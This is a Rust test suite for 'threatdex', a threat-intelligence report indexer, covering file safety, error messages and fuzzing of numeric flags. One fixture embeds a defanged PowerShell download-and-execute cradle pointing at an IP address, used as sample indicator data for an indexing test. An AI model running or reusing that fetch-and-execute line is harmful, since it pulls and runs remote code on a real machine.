//! Safety: threatdex never deletes or overwrites a file it did not create,
//! refuses index locations it cannot own, fails loudly on missing inputs,
//! and survives any number typed into a numeric flag.

mod util;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use util::Env;

/// Every file below `dir` with its bytes.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.insert(p.clone(), std::fs::read(&p).unwrap());
            }
        }
    }
    out
}

/// A folder of reports as an analyst keeps it.
fn reports(env: &Env) -> PathBuf {
    env.write("reports/volt.txt", "Volt Typhoon targets US utilities\n\nVolt Typhoon hit water utilities in the United States.");
    env.write(
        "reports/notes/lockbit.md",
        "# LockBit notes\n\nThe LockBit gang attacked hospitals.",
    );
    env.write("reports/README", "not a report");
    env.dir.path().join("reports")
}

fn code(out: &std::process::Output) -> i32 {
    out.status.code().unwrap_or(-1)
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

#[test]
fn an_index_is_never_written_into_the_folder_being_indexed() {
    let env = Env::new();
    let dir = reports(&env);
    let before = snapshot(&dir);
    let d = dir.to_str().unwrap();
    for args in [
        vec!["--index", d, "index", d],
        vec!["--index", d, "index", "--rebuild", d],
        vec!["--index", d, "index", &format!("{d}/notes")],
    ] {
        let out = env.run(&args);
        assert_eq!(code(&out), 2, "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains("threatdex"), "{}", stderr(&out));
        assert_eq!(
            snapshot(&dir),
            before,
            "{args:?} changed the reports folder"
        );
    }
}

#[test]
fn a_folder_of_other_files_is_refused_as_an_index_location() {
    let env = Env::new();
    let dir = reports(&env);
    let before = snapshot(&dir);
    let corpus = util::corpus();
    let out = env.run(&[
        "--index",
        dir.to_str().unwrap(),
        "index",
        corpus.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is not a threatdex index"),
        "{}",
        stderr(&out)
    );
    // kb import goes through the same check.
    let cat = env.write("cat.json", MISP_CATALOGUE);
    let out = env.run(&[
        "--index",
        dir.to_str().unwrap(),
        "kb",
        "import",
        cat.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert_eq!(snapshot(&dir), before);
}

#[test]
fn an_index_in_a_subfolder_of_its_own_is_fine_and_not_walked() {
    let env = Env::new();
    let dir = reports(&env);
    let index = dir.join("idx");
    let (d, i) = (dir.to_str().unwrap(), index.to_str().unwrap());
    let res = env.json(&["--index", i, "index", d]);
    assert_eq!(res["indexed"], 2, "{res}");
    // A text file that lands in the index folder is not a report to index.
    std::fs::write(index.join("scratch.txt"), "APT28 notes kept with the index").unwrap();
    let res = env.json(&["--index", i, "index", d]);
    assert_eq!(res["total"], 2, "{res}");
    assert_eq!(res["indexed"], 0, "{res}");
}

#[test]
fn rebuild_removes_only_threatdex_files_and_keeps_the_imported_catalogue() {
    let env = Env::new();
    let dir = reports(&env);
    let index = env.dir.path().join("index");
    let i = index.to_str().unwrap();
    let cat = env.write("cat.json", MISP_CATALOGUE);
    env.ok(&["--index", i, "kb", "import", cat.to_str().unwrap()]);
    env.ok(&["--index", i, "index", dir.to_str().unwrap()]);
    let actors = |env: &Env| env.json(&["--index", i, "kb", "stats"])["actors"].clone();
    let imported = actors(&env);
    // An analyst's own file in the index folder (as an older threatdex
    // allowed) must survive a rebuild, byte for byte.
    std::fs::write(index.join("my-notes.txt"), "mine").unwrap();
    let out = env.run(&["--index", i, "index", "--rebuild", dir.to_str().unwrap()]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(std::fs::read(index.join("my-notes.txt")).unwrap(), b"mine");
    assert_eq!(
        actors(&env),
        imported,
        "the imported catalogue survives --rebuild"
    );
    let res = env.json(&["--index", i, "search", "Volt Typhoon"]);
    assert_eq!(res["total"], 1, "{res}");
    // The reports were never touched.
    assert!(dir.join("volt.txt").exists() && dir.join("notes/lockbit.md").exists());
}

#[test]
fn an_index_location_that_is_a_file_is_a_clear_usage_error() {
    let env = Env::new();
    let file = env.write("index-file", "x");
    let corpus = util::corpus();
    let out = env.run(&[
        "--index",
        file.to_str().unwrap(),
        "index",
        corpus.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("is a file, not an index directory"),
        "{}",
        stderr(&out)
    );
    let out = env.run(&["--index", file.to_str().unwrap(), "search", "apt28"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert_eq!(std::fs::read(&file).unwrap(), b"x");
}

#[test]
fn missing_inputs_are_errors_and_unsupported_files_are_named() {
    let env = Env::new();
    let out = env.run(&["index", "/nonexistent/threatdex-reports"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("/nonexistent/threatdex-reports"),
        "{}",
        stderr(&out)
    );
    assert!(!env.index_dir().exists(), "no empty index is created");
    let out = env.run(&["extract", "/nonexistent.txt"]);
    assert_eq!(code(&out), 1);
    assert!(
        stderr(&out).contains("/nonexistent.txt: no such file"),
        "{}",
        stderr(&out)
    );
    let png = env.write("image.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    let out = env.run(&["extract", png.to_str().unwrap()]);
    assert_eq!(code(&out), 0);
    assert!(
        stderr(&out).contains("skipped image.png: not a report file (.png"),
        "{}",
        stderr(&out)
    );
    let out = env.run(&["extract", "--json", png.to_str().unwrap()]);
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        line["skipped"]
            .as_str()
            .unwrap()
            .contains("not a report file"),
        "{line}"
    );
}

#[cfg(unix)]
#[test]
fn file_names_that_are_not_utf8_are_kept_apart_and_reopened() {
    use std::os::unix::ffi::OsStrExt;
    let env = Env::new();
    let dir = env.dir.path().join("r");
    std::fs::create_dir_all(&dir).unwrap();
    for (name, actor) in [
        (&b"caf\xe9.txt"[..], "APT28"),
        (&b"caf\xe8.txt"[..], "Kimsuky"),
    ] {
        let p = dir.join(std::ffi::OsStr::from_bytes(name));
        std::fs::write(
            p,
            format!("Notes on {actor}\n\n{actor} sent phishing mail."),
        )
        .unwrap();
    }
    let d = dir.to_str().unwrap();
    let res = env.json(&["index", d]);
    assert_eq!(
        (res["indexed"].as_u64(), res["total"].as_u64()),
        (Some(2), Some(2)),
        "{res}"
    );
    let res = env.json(&["index", d]);
    assert_eq!(
        (res["removed"].as_u64(), res["unchanged"].as_u64()),
        (Some(0), Some(2)),
        "{res}"
    );
    let hits = env.json(&["search", "Kimsuky"]);
    let path = hits["hits"][0]["path"].as_str().unwrap().to_string();
    assert!(path.contains("\\xe8"), "{path}");
}

#[test]
fn a_text_report_with_a_pasted_utf16_block_is_indexed() {
    let env = Env::new();
    let mut bytes = b"Weekly IOC notes\n\nAPT28 staging server 45.77.12[.]9 seen again.\n".to_vec();
    for _ in 0..40 {
        bytes.extend_from_slice(b"Another line of our own analysis about the intrusion set.\n");
    }
    for u in "Event 4104 ScriptBlock: IEX (New-Object Net.WebClient).DownloadString(hxxp://185.225.69[.]41/a)\r\n"
        .repeat(8)
        .encode_utf16()
    {
        bytes.extend_from_slice(&u.to_le_bytes());
    }
    let file = env.write("r/pasted.txt", &bytes);
    assert!(bytes.iter().filter(|&&b| b == 0).count() > 700);
    let res = env.json(&["index", file.parent().unwrap().to_str().unwrap()]);
    assert_eq!(res["indexed"], 1, "{res}");
    let found = env.json(&["search", "--ioc", "185.225.69.41"]);
    assert_eq!(found["total"], 1, "{found}");
}

#[test]
fn impossible_days_and_empty_results_are_said_plainly() {
    let env = Env::with_corpus();
    let out = env.run(&["search", "apt28", "--since", "2024-02-30"]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("no such day"), "{}", stderr(&out));
    let out = env.run(&["search", "zzqqxxnothing"]);
    assert_eq!(code(&out), 0);
    assert!(out.stdout.is_empty(), "results only on stdout");
    assert!(
        stderr(&out).contains("no reports match"),
        "{}",
        stderr(&out)
    );
    let out = env.run(&["search", "--actor", "Volt Tyhpoon"]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("did you mean"), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("\"Volt Typhoon\""),
        "{}",
        stderr(&out)
    );
}

#[test]
fn numeric_flags_never_panic() {
    let env = Env::with_corpus();
    let scratch = env.dir.path().join("r.html");
    let fixed = [
        "0",
        "1",
        "7",
        "-1",
        "4294967296",
        "100000000000000",
        "18446744073709551615",
        "18446744073709551616",
        "1e3",
        "",
        "ten",
    ];
    // Plus a deterministic sample of random numbers of every magnitude and
    // sign, and random junk: a small fuzz of the flags' parsers and users.
    let mut x = 0x9e37_79b9_7f4a_7c15_u64;
    let mut random = Vec::new();
    for i in 0..12 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        random.push(match i % 4 {
            0 => (x >> (x % 64)).to_string(),
            1 => format!("-{}", x % 1_000_000),
            2 => format!("{}", x % 100),
            _ => format!("{:x}", x),
        });
    }
    let values: Vec<&str> = fixed
        .iter()
        .copied()
        .chain(random.iter().map(String::as_str))
        .collect();
    let flags: [(&[&str], &str); 7] = [
        (&["search", "apt28"], "--limit"),
        (&["search"], "-n"),
        (&["facets", "--by", "month"], "--top"),
        (
            &["facets", "--by", "actor", "--cross", "actor,sector"],
            "--top",
        ),
        (&["iocs"], "-n"),
        (&["report", "--out", scratch.to_str().unwrap()], "--reports"),
        (&["report", "--out", scratch.to_str().unwrap()], "--top"),
    ];
    for (cmd, flag) in flags {
        for &v in &values {
            let mut args = cmd.to_vec();
            args.push(flag);
            args.push(v);
            let out = env.run(&args);
            let c = code(&out);
            assert!(
                c == 0 || c == 2,
                "threatdex {args:?} exited {c}:\n{}",
                stderr(&out)
            );
            assert!(
                !stderr(&out).contains("panicked"),
                "{args:?}: {}",
                stderr(&out)
            );
        }
    }
    // Indexing flags, on a small folder.
    let dir = env.write("small/a.txt", "APT28 note\n\nAPT28 phished ministries.");
    let dir = dir.parent().unwrap().to_str().unwrap().to_string();
    for flag in ["-j", "--max-size", "--commit-every"] {
        for &v in &values {
            let idx = env
                .dir
                .path()
                .join(format!("ix-{}-{}", flag.trim_matches('-'), v.len()));
            let out = env.run(&[
                "--index",
                idx.to_str().unwrap(),
                "index",
                "--quiet",
                flag,
                v,
                &dir,
            ]);
            let c = code(&out);
            assert!(
                c == 0 || c == 2,
                "index {flag} {v} exited {c}:\n{}",
                stderr(&out)
            );
            assert!(
                !stderr(&out).contains("panicked"),
                "{flag} {v}: {}",
                stderr(&out)
            );
        }
    }
}

#[test]
fn completions_and_man_page_come_from_the_flags() {
    let env = Env::new();
    let bash = env.ok(&["completions", "bash"]);
    assert!(
        bash.contains("threatdex") && bash.contains("--since"),
        "{}",
        &bash[..200.min(bash.len())]
    );
    let zsh = env.ok(&["completions", "zsh"]);
    assert!(zsh.contains("#compdef threatdex"));
    let fish = env.ok(&["completions", "fish"]);
    assert!(fish.contains("complete -c threatdex"));
    let man = env.ok(&["man"]);
    assert!(
        man.contains(".TH threatdex") && man.contains("search"),
        "{}",
        &man[..200.min(man.len())]
    );
    let page = env.ok(&["man", "search"]);
    assert!(
        page.contains("threatdex\\-search") && page.contains("\\-\\-since"),
        "{}",
        &page[..300.min(page.len())]
    );
    let out = env.run(&["man", "nosuch"]);
    assert_eq!(code(&out), 2);
}

/// A two-actor MISP galaxy: one the built-in catalogue lacks.
const MISP_CATALOGUE: &str = r#"{
  "name": "Threat Actor", "type": "threat-actor", "uuid": "7cdff317-a673-4474-84ec-4f1754947823",
  "values": [
    {"value": "Wombat Spider Test Crew", "uuid": "11111111-1111-4111-8111-111111111111",
     "meta": {"synonyms": ["WOMBATTEST", "Marsupial Team Seven"], "country": "AU"}},
    {"value": "APT28", "uuid": "22222222-2222-4222-8222-222222222222",
     "meta": {"synonyms": ["Fancy Bear"]}}
  ]
}"#;

#[test]
fn outputs_never_overwrite_a_file_threatdex_did_not_write() {
    let env = Env::with_corpus();
    let mine = env.write("briefing.html", "<html>my own briefing</html>");
    let out = env.run(&["report", "--out", mine.to_str().unwrap()]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(&mine).unwrap(),
        b"<html>my own briefing</html>"
    );
    // A page threatdex wrote is replaced without asking; --force replaces any.
    let page = env.dir.path().join("r.md");
    env.ok(&["report", "--out", page.to_str().unwrap()]);
    env.ok(&["report", "apt28", "--out", page.to_str().unwrap()]);
    env.ok(&["report", "--force", "--out", mine.to_str().unwrap()]);
    assert!(std::fs::read_to_string(&mine)
        .unwrap()
        .contains("<meta name=\"generator\" content=\"threatdex"));
    // The same for STIX bundles.
    let bundle = env.write(
        "bundle.json",
        r#"{"type":"bundle","id":"bundle--6ba7b810-9dad-41d1-80b4-00c04fd430c8","objects":[]}"#,
    );
    let out = env.run(&["export", "--stix", bundle.to_str().unwrap()]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let fresh = env.dir.path().join("fresh.json");
    env.ok(&["export", "--stix", fresh.to_str().unwrap()]);
    env.ok(&["export", "--stix", fresh.to_str().unwrap(), "apt28"]);
}
